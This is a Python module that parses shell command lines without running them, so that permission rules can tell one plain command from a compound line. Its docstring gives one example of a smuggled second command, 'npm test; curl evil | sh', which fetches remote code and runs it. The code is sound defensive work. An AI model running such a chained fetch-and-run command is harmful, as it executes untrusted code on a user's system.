"""A command as a permission rule sees it: the simple commands a shell line runs, and
whatever makes the line more than one plain command.

Why: a rule that allows ``npm test`` must not allow ``npm test; curl evil | sh`` — and the
line runs under ``/bin/sh -c``, so globbing the raw text cannot tell the two apart. This is
a tokenizer for the POSIX shell's syntax (quotes, escapes, operators, redirections,
substitutions), not a shell: it never expands anything. It is conservative: whatever it
cannot read for sure (an unterminated quote, a line continuation, a keyword such as ``if``)
counts as compound, so an allow rule does not match it.

- :func:`parse_line` reads a shell line; :func:`from_argv` an argv run without a shell (an
  argv that is itself ``sh -c LINE`` is read as LINE).
- :attr:`Command.simple`: exactly one command, nothing else (no ``;``, ``&&``, ``||``, ``|``,
  ``&``, newline, redirection, ``$(…)``, backticks, ``(…)``, ``{…}``, ``NAME=value`` prefix).
- :attr:`Command.parts`: the words of each simple command found (for rules that must match
  any part, such as ``reject``); :attr:`Command.nested` the bodies of ``$(…)`` and backticks
  read the same way.
- :func:`without_cd_to`: a line less a leading ``cd DIR &&`` where DIR is exactly the
  directory the line runs in (kimi wraps every command as ``cd '<cwd>' && CMD``): a ``cd``
  to where the shell already is changes nothing, so it is not a second command.
"""

from __future__ import annotations

import os
import re
from fnmatch import fnmatchcase

from acp_bridge._records.frozen import FrozenRecord

SHELLS = frozenset({"sh", "bash", "dash", "zsh", "ksh", "mksh", "ash", "busybox"})
_SHELL_C_FLAG = re.compile(r"-[a-z]*c[a-z]*")
_KEYWORDS = frozenset(
    {"if", "then", "else", "elif", "fi", "for", "while", "until", "do", "done", "case",
     "esac", "function", "select", "time", "!", "[[", "]]", "((", "coproc", "{", "}"}
)  # fmt: skip
_ASSIGNMENT = re.compile(r"[A-Za-z_][A-Za-z0-9_]*\+?=")
_OPERATORS = ("&&", "||", ";;", "|&", ";", "&", "|")
_EXPANDS = re.compile(r"[$*?\[{~]")
"""What the shell may expand in a word (quoted or not: the reader does not keep which)."""
MAX_NESTED = 8
"""Substitutions inside substitutions are read this deep; deeper is unparsable."""
MAX_LINE_CHARS = 128 << 10
"""A longer line is not read at all (~2 µs a character, on the event loop: a 32 MB command
took a minute): it counts as compound and :attr:`Command.unread`."""
UNREAD = "too long to read"


class Command(FrozenRecord):
    """What a command line runs, read without running it."""

    # A frozen record, not a frozen dataclass: a dataclass compiles its generated methods
    # from source when its module loads, on every start-up's path (~4 M instructions).
    line: str
    parts: tuple[tuple[str, ...], ...]
    """The words of each simple command, quotes removed, in order."""
    reasons: frozenset[str]
    """Why it is more than one plain command (empty: it is one)."""
    nested: tuple[Command, ...]
    """What ``$(…)`` and backticks inside it run, read the same way."""
    _compared = __slots__ = ("line", "parts", "reasons", "nested")

    def __init__(
        self,
        line: str,
        parts: tuple[tuple[str, ...], ...] = (),
        reasons: frozenset[str] = frozenset(),
        nested: tuple[Command, ...] = (),
    ) -> None:
        object.__setattr__(self, "line", line)
        object.__setattr__(self, "parts", parts)
        object.__setattr__(self, "reasons", reasons)
        object.__setattr__(self, "nested", nested)

    @property
    def simple(self) -> bool:
        return len(self.parts) == 1 and not self.reasons

    @property
    def words(self) -> tuple[str, ...]:
        """The words of the first command (all of them, for a simple command)."""
        return self.parts[0] if self.parts else ()

    @property
    def key(self) -> tuple[str, ...]:
        """What identifies it when two decisions are compared: the words of a simple
        command, else the whole line."""
        return self.words if self.simple else ("<line>", self.line.strip())

    def every_part(self) -> tuple[tuple[str, ...], ...]:
        """Every simple command, those inside substitutions included."""
        inner = tuple(words for sub in self.nested for words in sub.every_part())
        return self.parts + inner

    @property
    def unread(self) -> bool:
        """Too long to be read: what it runs is unknown (a reject rule must assume the worst)."""
        return UNREAD in self.reasons

    @property
    def only_operators(self) -> bool:
        """Whether what makes it compound is operators and redirections only (no
        substitution, subshell, group, assignment, keyword, nor anything unreadable)."""
        return self.reasons <= {"operator", "redirection", "newline", "background"}


def prefix_matches(pattern: tuple[str, ...], words: tuple[str, ...]) -> bool:
    """Whether ``words`` begin with ``pattern``, word by word, each pattern word a
    case-sensitive glob (``npm test`` matches ``npm test --watch``, not ``npm testx``)."""
    if not pattern or len(words) < len(pattern):
        return False
    return all(fnmatchcase(word, glob) for word, glob in zip(words, pattern, strict=False))


def from_argv(argv: list[str] | tuple[str, ...]) -> Command:
    """An argv run directly (no shell); ``sh -c LINE`` (any shell, any ``-…c`` flag) is LINE."""
    words = tuple(argv)
    shell = len(words) >= 3 and words[0].rsplit("/", 1)[-1] in SHELLS
    if shell and _SHELL_C_FLAG.fullmatch(words[1]):
        return parse_line(words[2])
    line = " ".join(words)
    if len(line) > MAX_LINE_CHARS:  # every rule would compare every word: not read either
        return Command(line, (), frozenset({UNREAD}))
    return Command(line, (words,) if words else (), frozenset() if words else frozenset({"empty"}))


def without_cd_to(command: Command, cwd: str) -> Command:
    """``command`` without a leading ``cd DIR &&`` when DIR, as written, is ``cwd`` resolved
    (symlinks followed): what follows the ``&&``, read as a line of its own. Anything else
    is left as it is, compound: a ``cd`` elsewhere, to a relative path (``CDPATH`` decides
    where that goes), to a path that only resolves to ``cwd`` (a link can be swapped before
    the line runs), with options, a variable or a substitution, or joined by any other
    operator."""
    parts = command.parts
    if len(parts) < 2 or len(parts[0]) != 2 or parts[0][0] != "cd":
        return command  # the usual line: not one that starts with `cd DIR`, no second read
    reader = _Reader(command.line, 0)
    reader.read()
    if reader.first_operator is None or reader.first_operator[0] != "&&":
        return command
    _, start, end = reader.first_operator
    head = parse_line(command.line[:start])
    if not head.simple or head.words != parts[0]:
        return command
    target = head.words[1]
    if not target.startswith("/") or _EXPANDS.search(target):
        return command  # the reader keeps `$X` and globs as written; the shell would not
    if os.path.normpath(target) != os.path.realpath(cwd):
        return command
    return parse_line(command.line[end:].lstrip(" \t"))


def parse_line(line: str, _depth: int = 0) -> Command:
    """The simple commands of a shell line and what else it holds (see the module doc)."""
    if len(line) > MAX_LINE_CHARS:
        return Command(line, (), frozenset({UNREAD}))
    reader = _Reader(line, _depth)
    reader.read()
    parts = tuple(tuple(words) for words in reader.commands if words)
    reasons = set(reader.reasons)
    if not parts:
        reasons.add("empty")
    return Command(line, parts, frozenset(reasons), tuple(reader.nested))


class _Reader:
    """One pass over a line: words, operators, quotes, substitutions."""

    def __init__(self, line: str, depth: int) -> None:
        self.text = line
        self.depth = depth
        self.i = 0
        self.commands: list[list[str]] = [[]]
        self.reasons: set[str] = set()
        self.nested: list[Command] = []
        self.word: list[str] | None = None  # None: between words
        self.target = False  # the next word is a redirection's target, not an argument
        self.first_operator: tuple[str, int, int] | None = None
        """The line's first operator, where it starts and ends (for :func:`without_cd_to`)."""

    def read(self) -> None:
        text = self.text
        while self.i < len(text):
            char = text[self.i]
            if char in " \t":
                self._end_word()
                self.i += 1
            elif char == "\n":
                self._end_command("newline")
                self.i += 1
            elif char == "#" and self.word is None:
                end = text.find("\n", self.i)
                self.i = len(text) if end < 0 else end
            elif char == "\\":
                self._escape()
            elif char == "'":
                self._single_quoted()
            elif char == '"':
                self._double_quoted()
            elif char == "$":
                self._dollar()
            elif char == "`":
                self._backticks()
            elif char in "<>":
                self._redirection()
            elif char in ";&|":
                self._operator()
            elif char in "()":
                self.reasons.add("subshell")
                self._end_command(None)
                self.i += 1
            else:
                self._char(char)
                self.i += 1
        self._end_word()

    # --- words -----------------------------------------------------------------------

    def _char(self, char: str) -> None:
        if self.word is None:
            self.word = []
        self.word.append(char)

    def _end_word(self) -> None:
        if self.word is None:
            return
        word = "".join(self.word)
        self.word = None
        if self.target:
            self.target = False
            return
        current = self.commands[-1]
        if not current:
            if word in _KEYWORDS:
                self.reasons.add("keyword")
            elif _ASSIGNMENT.match(word):
                self.reasons.add("assignment")
                return  # an assignment is not the command's name
        current.append(word)

    def _end_command(self, reason: str | None) -> None:
        self._end_word()
        if reason is not None and self.commands[-1]:
            self.reasons.add(reason)
        if self.commands[-1]:
            self.commands.append([])

    # --- quoting ---------------------------------------------------------------------

    def _escape(self) -> None:
        following = self.text[self.i + 1 : self.i + 2]
        if following in ("", "\n"):
            self.reasons.add("line continuation")
            self.i += 2
            return
        self._char(following)
        self.i += 2

    def _single_quoted(self) -> None:
        end = self.text.find("'", self.i + 1)
        if end < 0:
            self.reasons.add("unterminated quote")
            end = len(self.text)
        self._char("")
        assert self.word is not None
        self.word.append(self.text[self.i + 1 : end])
        self.i = end + 1

    def _double_quoted(self) -> None:
        self._char("")
        text, i = self.text, self.i + 1
        while i < len(text) and text[i] != '"':
            if text[i] == "\\" and i + 1 < len(text) and text[i + 1] in '$`"\\\n':
                assert self.word is not None
                self.word.append(text[i + 1])
                i += 2
                continue
            if text[i] == "`" or text.startswith("$(", i):
                self.i = i
                if text[i] == "`":
                    self._backticks()
                else:
                    self._dollar()
                i = self.i
                continue
            assert self.word is not None
            self.word.append(text[i])
            i += 1
        if i >= len(text):
            self.reasons.add("unterminated quote")
        self.i = i + 1

    # --- substitutions ----------------------------------------------------------------

    def _dollar(self) -> None:
        text = self.text
        if text.startswith("$(", self.i):
            end = _closing_paren(text, self.i + 2)
            self.reasons.add("command substitution")
            self._nested(text[self.i + 2 : end if end >= 0 else len(text)], end)
            self.i = len(text) if end < 0 else end + 1
            self._char("$(…)")
            return
        # $NAME, ${…}, $'…': an expansion, kept as written (it matches no literal word)
        self._char("$")
        self.i += 1

    def _backticks(self) -> None:
        end = self.text.find("`", self.i + 1)
        self.reasons.add("command substitution")
        self._nested(self.text[self.i + 1 : end if end >= 0 else len(self.text)], end)
        self.i = len(self.text) if end < 0 else end + 1
        self._char("`…`")

    def _nested(self, body: str, end: int) -> None:
        if end < 0:
            self.reasons.add("unterminated substitution")
        if self.depth >= MAX_NESTED:
            self.reasons.add("nested too deeply")
            return
        self.nested.append(parse_line(body, self.depth + 1))

    # --- operators --------------------------------------------------------------------

    def _redirection(self) -> None:
        text = self.text
        if text.startswith(("<(", ">("), self.i):  # process substitution
            end = _closing_paren(text, self.i + 2)
            self.reasons.add("command substitution")
            self._nested(text[self.i + 2 : end if end >= 0 else len(text)], end)
            self.i = len(text) if end < 0 else end + 1
            return
        # A digit right before (2>file) is the fd, not a word of its own.
        if self.word is not None and "".join(self.word).isdigit():
            self.word = None
        self._end_word()
        self.reasons.add("redirection")
        self.i += 1
        while self.i < len(text) and text[self.i] in "<>&|-":
            self.i += 1
        self.target = True

    def _operator(self) -> None:
        text = self.text
        if text.startswith("&>", self.i):
            self._redirection()
            return
        operator = next(op for op in _OPERATORS if text.startswith(op, self.i))
        if self.first_operator is None:
            self.first_operator = (operator, self.i, self.i + len(operator))
        self.i += len(operator)
        self._end_command("background" if operator == "&" else "operator")


def _closing_paren(text: str, start: int) -> int:
    """Index of the ``)`` closing a ``(`` just before ``start`` (quotes and nesting
    respected), or -1."""
    depth, i = 1, start
    while i < len(text):
        char = text[i]
        if char == "\\":
            i += 2
            continue
        if char in "'\"":
            end = text.find(char, i + 1)
            if end < 0:
                return -1
            i = end + 1
            continue
        if char == "(":
            depth += 1
        elif char == ")":
            depth -= 1
            if depth == 0:
                return i
        i += 1
    return -1
